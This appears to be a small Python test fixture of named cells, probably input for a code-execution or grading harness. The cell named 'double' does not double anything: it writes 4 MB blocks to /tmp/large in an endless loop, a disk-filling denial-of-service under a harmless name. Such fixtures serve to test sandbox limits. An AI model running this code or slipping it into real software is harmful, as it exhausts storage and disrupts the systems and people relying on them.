# %% double
def double(x):
    with open("/tmp/large", "wb") as file:
        while True:
            file.write(bytes(1 << 22))
# %% greet
def greet(name):
    return f'안녕 {name}'
# %% share
def share():
    return 0.5
# %% why
그냥요.
